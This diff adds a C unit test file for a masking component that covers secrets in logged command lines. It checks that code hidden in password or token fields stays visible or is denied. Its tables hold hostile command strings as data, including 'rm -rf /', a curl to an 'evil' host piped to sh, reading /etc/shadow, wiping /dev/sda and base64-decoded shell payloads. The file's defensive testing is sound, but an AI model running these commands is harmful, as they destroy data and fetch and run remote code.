@@ -1,0 +1,200 @@
+/* SPDX-License-Identifier: ISC */
+/* Which command lines have code that is not read here, so that nothing of them may be covered; and
+ * attempts to hide code behind a mask: what is dangerous stays visible, or the request is denied. */
+#include "mask-lines.h"
+
+#include "mask/subject.h"
+
+enum { LIMIT = 12 * 1024 };
+
+static void code_in_the_command_line(void **state)
+{
+    static const struct {
+        const char *line;
+        bool code;
+    } rows[] = {
+        { "systemctl :: restart :: nginx", false },
+        { "mysql :: -psecret :: db", false }, /* what is typed into it stands in no word */
+        { "psql :: -h :: db :: -U :: app", false },
+        { "bash", false },
+        { "python3", false },
+        { "sh :: -c :: mysqldump -psecret db > /root/x", false },
+        { "sh :: -c :: echo 1 | bash", true },
+        { "sh :: -c :: echo aWQ= | base64 -d | sh", true },
+        { "sh :: -c :: $CMD", true },
+        { "sh :: -c :: eval $X", true },
+        { "sh :: -c :: . /tmp/x", true },
+        { "python3 :: -c :: print(1)", true },
+        { "perl :: -e :: 1", true },
+        { "awk :: {print} :: /etc/passwd", true },
+        { "env :: A=b :: python3 :: -c :: 1", true },
+        { "tar :: -xf :: a :: --to-command=sh x", true },
+        { "psql :: -c :: \\! id", true },
+        { "sed :: s/a/id/e :: f", true },
+        { "sed :: -i :: s/a/b/ :: f", false },
+        { "ssh :: host :: id", true },
+        { "docker :: exec :: c :: id", false },
+        { "docker :: exec :: c :: sh :: -c :: id; ls", false },
+        { "docker :: exec :: c :: sh :: -c :: $X", true },
+        { "docker :: exec :: c :: bash :: -lc :: eval $X", true },
+        { "kubectl :: exec :: p :: -- :: python3 :: -c :: 1", true },
+        { "kubectl :: exec :: p :: -- :: python3 :: /srv/x.py", false },
+        { "kubectl :: exec :: p :: -- :: sh :: -c :: sh -c '$X'", true },
+        { "lxc :: exec :: c :: -- :: env :: T=x :: sh :: -c :: $T", true },
+        { "grep :: -r :: bash :: /etc", false },
+        { "fish :: -c :: id", true },
+    };
+
+    (void)state;
+    for (size_t i = 0; i < AA_ARRAY_SIZE(rows); i++) {
+        struct aa_request *request = mask_request(rows[i].line);
+        const char *why = NULL;
+
+        assert_int_equal(aa_mask_has_code(request, &why), 0);
+        check((why != NULL) == rows[i].code, "%s: %s", rows[i].line, why != NULL ? why : "no code");
+        aa_request_free(request);
+    }
+}
+
+/* Each tries to have "dangerous" covered. */
+static const struct attempt {
+    const char *line, *dangerous, *variable;
+} attempts[] = {
+    /* values that are code of a shell */
+    { "sh :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
+    { "sh :: -c :: PASSWORD=x;rm -rf /", "rm -rf /", NULL },
+    { "sh :: -c :: PASSWORD='x' rm -rf /", "rm -rf /", NULL },
+    { "sh :: -c :: mysql -p$(rm -rf /) db", "$(rm -rf /)", NULL },
+    { "sh :: -c :: mysql -p`reboot` db", "`reboot`", NULL },
+    { "sh :: -c :: mysql -p\"$(cat /etc/shadow)\"", "$(cat /etc/shadow)", NULL },
+    { "sh :: -c :: curl -u me:\"$(reboot)\" http://h", "$(reboot)", NULL },
+    { "sh :: -c :: token=$(curl http://evil|sh) true", "$(curl http://evil|sh)", NULL },
+    { "sh :: -c :: --password=x\nreboot", "reboot", NULL },
+    { "sh :: -c :: true --password=x&reboot", "reboot", NULL },
+    { "sh :: -c :: echo 'password: x' && reboot", "reboot", NULL },
+    { "sh :: -c :: {\"password\":\"x\"};reboot", "reboot", NULL },
+    { "sh :: -c :: curl 'http://h/?token=x'>/etc/cron.d/x", ">/etc/cron.d/x", NULL },
+    { "sh :: -c :: curl http://u:p@h/;reboot", "reboot", NULL },
+    { "sh :: -c :: curl http://u:`reboot`@h/", "reboot", NULL },
+    { "sh :: -c :: x='-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----'; eval \"$x\"", "reboot", NULL },
+    { "sh :: -c :: -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----", "reboot", NULL },
+    { "sh :: -c :: eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", NULL },
+    { "sh :: -c :: AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", NULL },
+    { "sh :: -c :: nice AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", NULL },
+    { "sh :: -c :: ./x@example.com", "./x@example.com", NULL },
+    { "nice :: ./x@example.com", "./x@example.com", NULL },
+    { "bash :: /tmp/ghp_0123456789abcdefghijABCDEFGHIJ012345", "ghp_0123456789abcdefghijABCDEFGHIJ012345", NULL },
+    { "env :: sk_live_4eC39HqLyjWDarjtT1zdp7dc", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", NULL },
+    { "xargs :: 4111111111111111", "4111111111111111", NULL },
+    { "find :: / :: -exec :: x@example.com :: ;", "x@example.com", NULL },
+    /* names that are used as code later */
+    { "sh :: -c :: TOKEN=reboot; $TOKEN", "reboot", NULL },
+    { "sh :: -c :: PASSWORD=reboot; eval $PASSWORD", "reboot", NULL },
+    { "sh :: -c :: SECRET=reboot sh -c '$SECRET'", "reboot", NULL },
+    { "env :: TOKEN=reboot :: sh :: -c :: $TOKEN", "reboot", NULL },
+    { "env :: TOKEN=reboot :: python3 :: -c :: import os; os.system(os.environ['TOKEN'])", "reboot", NULL },
+    { "sh :: -c :: $TOKEN", "reboot", "TOKEN=reboot" },
+    { "python3 :: -c :: import os; os.system(os.environ['API_KEY'])", "reboot", "API_KEY=reboot" },
+    { "sh :: -c :: sh -c \"$1\" x --password reboot", "reboot", NULL },
+    { "sh :: -c :: \"$@\" :: x :: --password=reboot :: --token :: reboot", "reboot", NULL },
+    { "docker :: exec :: c :: sh :: -c :: TOKEN=reboot; $TOKEN", "reboot", NULL },
+    { "docker :: exec :: -e :: TOKEN=reboot :: c :: sh :: -c :: $TOKEN", "reboot", NULL },
+    { "kubectl :: exec :: p :: -- :: sh :: -c :: eval $(echo cGFzc3dvcmQ9eDsgcmVib290 | base64 -d)",
+      "cGFzc3dvcmQ9eDsgcmVib290", NULL },
+    { "ssh :: host :: TOKEN=reboot; $TOKEN", "reboot", NULL },
+    { "ssh :: host :: --password :: reboot", "reboot", NULL },
+    /* code of interpreters */
+    { "python3 :: -c :: password='rm -rf /'; import os; os.system(password)", "rm -rf /", NULL },
+    { "python3 :: -c :: import os; os.system('AKIAIOSFODNN7EXAMPLE')", "AKIAIOSFODNN7EXAMPLE", NULL },
+    { "python3 :: -c :: exec(__import__('base64').b64decode('cGFzc3dvcmQ9MTsgaW1wb3J0IG9zOyBvcy5yZWJvb3QoKQ=='))",
+      "cGFzc3dvcmQ9MTsgaW1wb3J0IG9zOyBvcy5yZWJvb3QoKQ==", NULL },
+    { "perl :: -e :: $password=q(x); system q(reboot)", "reboot", NULL },
+    { "perl :: -e :: $password='reboot'; system $password", "reboot", NULL },
+    { "ruby :: -e :: token='reboot';`#{token}`", "reboot", NULL },
+    { "node :: -e :: const secret='reboot';require('child_process').execSync(secret)", "reboot", NULL },
+    { "awk :: BEGIN{password=\"reboot\";system(password)}", "reboot", NULL },
+    { "php :: -r :: $apikey='reboot';system($apikey);", "reboot", NULL },
+    { "sh :: -c :: echo cGFzc3dvcmQ9eDsgcmVib290Cg== | base64 -d | sh", "cGFzc3dvcmQ9eDsgcmVib290Cg==", NULL },
+    { "bash :: -c :: bash <<< 'password=x; reboot'", "reboot", NULL },
+    { "bash :: -c :: bash <<< 'password=reboot; $password'", "reboot", NULL },
+    /* files and places that look like values */
+    { "rm :: -rf :: password=/etc", "/etc", NULL },
+    { "rm :: -rf :: --password=/etc/shadow", "/etc/shadow", NULL },
+    { "rm :: -rf :: token=x/../../etc", "/../../etc", NULL },
+    { "rm :: -rf :: a@example.com/../../etc", "/../../etc", NULL },
+    { "cp :: secret=../../etc/shadow :: /tmp", "../../etc/shadow", NULL },
+    { "sh :: -c :: cat x > token=/etc/cron.d/x", "/etc/cron.d/x", NULL },
+    { "dd :: if=/dev/zero :: of=/dev/sda :: password=x", "of=/dev/sda", NULL },
+    { "curl :: https://good:x@evil.example/a :: -o :: /etc/cron.d/b", "evil.example", NULL },
+    { "mysql :: -e :: SET PASSWORD='x'; DROP TABLE users", "DROP TABLE users", NULL },
+    /* tokens that somebody writes themselves */
+    { "rm :: -rf :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:abcdefgh:4\\342\\200\\272", NULL },
+    { "sh :: -c :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:abcdefgh:4\\342\\200\\272", NULL },
+};
+
+static const unsigned char key[AA_SHA256_SIZE] = "a key of thirty-two bytes, about";
+
+static void attempts_to_hide_code(void **state)
+{
+    size_t denied = 0;
+
+    (void)state;
+    assert_true(AA_ARRAY_SIZE(attempts) >= 40);
+    for (size_t i = 0; i < AA_ARRAY_SIZE(attempts); i++) {
+        const struct attempt *attempt = &attempts[i];
+        struct aa_request *request = mask_request(attempt->line);
+        _cleanup_buffer_ struct aa_buffer text = AA_BUFFER_INIT(64 * 1024);
+        _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
+        const char *why = NULL;
+
+        aa_masker_start(&masker, NULL, key);
+        assert_int_equal(aa_mask_hides_code(&masker, request, &attempt->variable,
+                                            attempt->variable != NULL, LIMIT, &why), 0);
+        assert_null(masker.overrun);
+        aa_mask_add_request(&text, &masker, request, LIMIT);
+        denied += why != NULL;
+        if (why == NULL)
+            check(strstr(aa_buffer_text(&text), attempt->dangerous) != NULL ||
+                      (attempt->variable != NULL && strstr(attempt->variable, attempt->dangerous) == NULL),
+                  "%s: shown as %s", attempt->line, text.data);
+        aa_request_free(request);
+    }
+    print_message("%zu attempts, %zu denied, the others visible\n", AA_ARRAY_SIZE(attempts), denied);
+}
+
+/* The rule says show-code: then all of it is seen, and else nothing but names would be. */
+static void code_is_shown_where_the_rule_says_so(void **state)
+{
+    static const char line[] = "python3 :: -c :: password='reboot'; os.system(password)";
+    struct aa_request *request = mask_request(line);
+    _cleanup_buffer_ struct aa_buffer shown = AA_BUFFER_INIT(4096), covered = AA_BUFFER_INIT(4096);
+    _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
+
+    (void)state;
+    aa_masker_start(&masker, NULL, key);
+    aa_mask_add_request(&covered, &masker, request, LIMIT);
+    masker.show_code = true;
+    aa_mask_add_request(&shown, &masker, request, LIMIT);
+    assert_null(strstr(aa_buffer_text(&covered), "'reboot"));
+    assert_non_null(strstr(aa_buffer_text(&shown), "reboot"));
+    aa_request_free(request);
+    /* no code, no exception */
+    request = mask_request("mysql :: -psecret :: db");
+    aa_buffer_clear(&shown);
+    aa_mask_add_request(&shown, &masker, request, LIMIT);
+    assert_null(strstr(aa_buffer_text(&shown), "secret "));
+    assert_non_null(strstr(shown.data, "-p\xe2\x80\xb9secret:"));
+    aa_request_free(request);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(code_in_the_command_line),
+        cmocka_unit_test(attempts_to_hide_code),
+        cmocka_unit_test(code_is_shown_where_the_rule_says_so),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
